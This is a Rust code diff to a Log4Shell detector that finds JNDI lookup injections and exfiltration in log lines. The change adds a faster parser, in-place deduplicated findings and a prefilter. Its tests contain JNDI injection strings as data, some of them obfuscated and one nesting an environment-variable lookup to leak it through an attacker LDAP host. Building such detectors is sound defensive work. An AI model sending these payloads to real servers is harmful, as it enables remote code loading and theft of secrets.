@@ -4,6 +4,7 @@
 use std::borrow::Cow;
 use std::sync::LazyLock;
 
+use aho_corasick::packed;
 use memchr::memmem::Finder;
 use serde::{Serialize, Serializer};
 
@@ -184,6 +185,9 @@ impl JndiTarget {
     /// Parses a `jndi` name such as `ldap://evil.example:1389/a` or `rmi://[::1]/x`.
     pub fn parse(name: &str) -> Self {
         let name = name.trim();
+        if memchr::memchr(b'$', name.as_bytes()).is_none() {
+            return Self::parse_without_lookups(name);
+        }
         let Some(colon) = find_outside_lookups(name, b":") else {
             return Self {
                 path: non_empty(name),
@@ -205,6 +209,44 @@ impl JndiTarget {
             if substitutor::find_open(host.as_bytes(), 0).is_some() {
                 host.to_string()
             } else if host.is_ascii() {
+                host.to_ascii_lowercase()
+            } else {
+                host.to_lowercase()
+            }
+        });
+        Self {
+            protocol,
+            host,
+            port,
+            path,
+        }
+    }
+}
+
+impl JndiTarget {
+    /// [`JndiTarget::parse`] for a name without a `$` (nearly all): no lookup to step over, so
+    /// each separator is one `memchr` away.
+    fn parse_without_lookups(name: &str) -> Self {
+        let bytes = name.as_bytes();
+        let Some(colon) = memchr::memchr(b':', bytes) else {
+            return Self {
+                path: non_empty(name),
+                ..Self::default()
+            };
+        };
+        let scheme = &name[..colon];
+        let protocol = (!scheme.is_empty()).then(|| JndiProtocol::from_scheme(scheme));
+        let rest = name[colon + 1..].trim_start_matches('/');
+        let authority_end =
+            memchr::memchr3(b'/', b'?', b'#', rest.as_bytes()).unwrap_or(rest.len());
+        let mut authority = &rest[..authority_end];
+        let path = rest.get(authority_end + 1..).and_then(non_empty);
+        if let Some(at) = memchr::memrchr(b'@', authority.as_bytes()) {
+            authority = &authority[at + 1..];
+        }
+        let (host, port) = split_port(authority);
+        let host = (!host.is_empty()).then(|| {
+            if host.is_ascii() {
                 host.to_ascii_lowercase()
             } else {
                 host.to_lowercase()
@@ -266,7 +308,12 @@ impl Finding {
 const SNIPPET_CHARS: usize = 240;
 
 fn snippet(s: &str) -> String {
-    s.chars().take(SNIPPET_CHARS).collect()
+    // Cut at the character after the first `SNIPPET_CHARS`, without collecting them one by one.
+    let end = s
+        .char_indices()
+        .nth(SNIPPET_CHARS)
+        .map_or(s.len(), |(at, _)| at);
+    s[..end].to_string()
 }
 
 /// Number of `${` left open at the end of `s`. Jumps from `$` and `}` to the next with
@@ -290,9 +337,37 @@ fn unclosed(s: &str) -> usize {
     open
 }
 
-/// Evaluates decoded text and classifies what the evaluation did; `at_end` says the text ends
-/// where the line ends, so a lookup left open there was cut by the logger, not by a window.
-pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Finding> {
+/// Evaluates decoded text and classifies what the evaluation did, adding the findings not
+/// already in `findings`; `at_end` says the text ends where the line ends, so a lookup left
+/// open there was cut by the logger, not by a window.
+pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool, findings: &mut Vec<Finding>) {
+    // Text whose lookups are all plain `jndi` or inert ones evaluates to itself: what is found
+    // is the `jndi` lookups, and nothing left in the text is exfiltration (they read nothing).
+    if substitutor::is_plain(decoded, limits) {
+        for name in substitutor::plain_jndi_names(decoded) {
+            push_new(findings, jndi_finding(name));
+        }
+        return;
+    }
+    analyze_evaluated(decoded, limits, at_end, findings);
+}
+
+/// Adds `finding` unless an equal one is there already.
+fn push_new(findings: &mut Vec<Finding>, finding: Finding) {
+    if !findings.contains(&finding) {
+        findings.push(finding);
+    }
+}
+
+/// A `jndi` finding for the substituted lookup name `name`.
+fn jndi_finding(name: &str) -> Finding {
+    let mut finding = Finding::new(HitClass::Jndi, jndi_payload(name));
+    finding.target = JndiTarget::parse(name);
+    finding
+}
+
+/// [`analyze`] by a full evaluation, for any text.
+fn analyze_evaluated(decoded: &str, limits: &Limits, at_end: bool, findings: &mut Vec<Finding>) {
     let mut evaluation = substitutor::evaluate(decoded, limits);
     // Counting what is left open scans the whole text: only done when it can matter.
     let open = if at_end && evaluation.jndi.is_empty() && evaluation.abort.is_none() {
@@ -308,14 +383,12 @@ pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Findi
             evaluation = retry;
         }
     }
-    let mut findings = Vec::new();
-    for call in &evaluation.jndi {
-        let mut finding = Finding::new(HitClass::Jndi, jndi_payload(&call.name));
-        finding.target = JndiTarget::parse(&call.name);
-        finding.exfiltration = call.exfiltration.clone();
-        findings.push(finding);
+    for call in &mut evaluation.jndi {
+        let mut finding = jndi_finding(&call.name);
+        finding.exfiltration = std::mem::take(&mut call.exfiltration);
+        push_new(findings, finding);
     }
-    if findings.is_empty() {
+    if evaluation.jndi.is_empty() {
         // Escaped (`$${jndi:`) or otherwise inert lookups still show intent.
         let text = if evaluation.abort.is_some() {
             decoded
@@ -326,22 +399,21 @@ pub(crate) fn analyze(decoded: &str, limits: &Limits, at_end: bool) -> Vec<Findi
             let mut finding = Finding::new(HitClass::Jndi, jndi_payload(&name));
             finding.target = JndiTarget::parse(&name);
             finding.detail = Some("jndi lookup that log4j would not evaluate".to_string());
-            findings.push(finding);
+            push_new(findings, finding);
         }
     }
     if let Some(abort) = &evaluation.abort {
         let start = decoded.find("${").unwrap_or(0);
         let mut finding = Finding::new(HitClass::RecursionDos, snippet(&decoded[start..]));
         finding.detail = Some(abort.to_string());
-        findings.push(finding);
+        push_new(findings, finding);
     } else {
         for (leak, context) in exfiltration_in_network_context(&evaluation.output, limits) {
             let mut finding = Finding::new(HitClass::Exfiltration, context);
             finding.exfiltration.push(leak);
-            findings.push(finding);
+            push_new(findings, finding);
         }
     }
-    findings
 }
 
 /// `${jndi:NAME}`, built without the formatting machinery (once per hit).
@@ -448,6 +520,15 @@ pub(crate) fn post_exploitation(line: &str) -> Option<Finding> {
     // built once beat one automaton, whose rare-byte prefilter stops at every capital letter.
     static FINDERS: LazyLock<Vec<Finder<'static>>> =
         LazyLock::new(|| TRACES.iter().map(Finder::new).collect());
+    // One packed search for all three first rules out nearly every line; the searches above
+    // then run only on lines with a trace, to pick it in the order of `TRACES`.
+    static ANY_TRACE: LazyLock<Option<packed::Searcher>> =
+        LazyLock::new(|| packed::Config::new().builder().extend(TRACES).build());
+    if let Some(any) = ANY_TRACE.as_ref()
+        && any.find(line.as_bytes()).is_none()
+    {
+        return None;
+    }
     let (at, trace) = TRACES
         .iter()
         .zip(FINDERS.iter())
@@ -468,7 +549,9 @@ mod tests {
     use super::*;
 
     fn analyze_one(s: &str) -> Vec<Finding> {
-        analyze(s, &Limits::default(), true)
+        let mut findings = Vec::new();
+        analyze(s, &Limits::default(), true, &mut findings);
+        findings
     }
 
     #[test]
@@ -508,6 +591,76 @@ mod tests {
             };
             assert_eq!(JndiProtocol::from_scheme(scheme), expected, "{scheme}");
         }
+    }
+
+    /// The general parse, with the shortcut for names without `$` turned off.
+    fn parse_stepping_over_lookups(name: &str) -> JndiTarget {
+        let name = name.trim();
+        let Some(colon) = find_outside_lookups(name, b":") else {
+            return JndiTarget {
+                path: non_empty(name),
+                ..JndiTarget::default()
+            };
+        };
+        let scheme = &name[..colon];
+        let protocol = (!scheme.is_empty()).then(|| JndiProtocol::from_scheme(scheme));
+        let rest = name[colon + 1..].trim_start_matches('/');
+        let authority_end = find_outside_lookups(rest, b"/?#").unwrap_or(rest.len());
+        let mut authority = &rest[..authority_end];
+        let path = rest.get(authority_end + 1..).and_then(non_empty);
+        if let Some(at) = rfind_outside_lookups(authority, b'@') {
+            authority = &authority[at + 1..];
+        }
+        let (host, port) = split_port(authority);
+        let host = (!host.is_empty()).then(|| {
+            if substitutor::find_open(host.as_bytes(), 0).is_some() {
+                host.to_string()
+            } else {
+                host.to_lowercase()
+            }
+        });
+        JndiTarget {
+            protocol,
+            host,
+            port,
+            path,
+        }
+    }
+
+    #[test]
+    fn names_without_lookups_parse_as_the_general_parser_does() {
+        let mut names: Vec<String> = [
+            "ldap://Evil.Example:1389/a",
+            "rmi://[::1]:1099/x/y",
+            "RMI://[::1/x",
+            "dns://u:p@h.example:53?q#f",
+            "ldap://a@b@c:x/y",
+            "corbaname:iiop:1.2@h",
+            "x",
+            "",
+            " ldap:///h/ ",
+            "ldap://h:99999/p",
+            "http://\u{c4}\u{e9}.example/\u{fc}",
+            "iiop://host:/",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+        for line in crate::hunt::corpus::generate(29, 600) {
+            for call in substitutor::evaluate(&line.text, &Limits::default()).jndi {
+                names.push(call.name);
+            }
+        }
+        let mut plain = 0;
+        for name in &names {
+            plain += usize::from(!name.contains('$'));
+            assert_eq!(
+                JndiTarget::parse(name),
+                parse_stepping_over_lookups(name),
+                "{name:?}"
+            );
+        }
+        assert!(plain > 100, "{plain}");
     }
 
     #[test]
@@ -607,6 +760,68 @@ mod tests {
         for line in crate::hunt::corpus::generate(5, 300) {
             assert_eq!(unclosed(&line.text), reference(&line.text), "{}", line.text);
         }
+    }
+
+    /// The plain-`jndi` shortcut must find what a full evaluation finds, on every text it takes.
+    #[test]
+    fn plain_jndi_text_is_analyzed_as_a_full_evaluation_would() {
+        let mut texts: Vec<String> = [
+            "${jndi:ldap://a.example/x}",
+            "${jndi:a}${jndi:a} ${JnDi:RMI://B.example:1099/y}",
+            "$${jndi:x}",
+            "a$${jndi:x}",
+            "$ ${jndi:b} $5 $",
+            "${jndi:x:-y}",
+            "${jndi:a:}-",
+            "${jndi:a$b}",
+            "${jndi:a",
+            "x}${jndi:y}}",
+            "${jndi:a}${",
+            "${jndix}",
+            "${jndi}",
+            "${ jndi:x}",
+            "${jndi:}",
+            "${jndi:ldap://${env:X}.a.example/x}",
+            "${jndi:ldap://a}${lower:X}",
+            "${jndi:ldap://a} ${server.port}",
+            "${server.port} ${HOME} ${x:hostName} ${hostName}.a.example",
+            "http://${env:USER} ${jndi:a}",
+            "${base64:!!}.oast.example ${base64:am5kaQ==}",
+            "\u{e9}${jndi:\u{fc}ber.example}",
+            "${j\u{130}ndi:x}",
+            "no lookup",
+            "",
+        ]
+        .iter()
+        .map(|s| s.to_string())
+        .collect();
+        for line in crate::hunt::corpus::generate(17, 2000) {
+            let decoded = crate::hunt::decode::decode_layers(line.text.as_bytes(), 4).0;
+            texts.push(String::from_utf8_lossy(&decoded).into_owned());
+            texts.push(line.text);
+        }
+        let limits = Limits::default();
+        let small = Limits {
+            max_output: 24,
+            ..Limits::default()
+        };
+        let mut plain = 0;
+        for text in &texts {
+            for start in (0..text.len()).filter(|&i| text.as_bytes()[i..].starts_with(b"${")) {
+                let window = &text[start..];
+                for limits in [&limits, &small] {
+                    for at_end in [true, false] {
+                        let mut fast = Vec::new();
+                        analyze(window, limits, at_end, &mut fast);
+                        let mut full = Vec::new();
+                        analyze_evaluated(window, limits, at_end, &mut full);
+                        assert_eq!(fast, full, "{window:?}");
+                    }
+                    plain += usize::from(substitutor::is_plain(window, limits));
+                }
+            }
+        }
+        assert!(plain > 500, "the shortcut took only {plain} texts");
     }
 
     #[test]
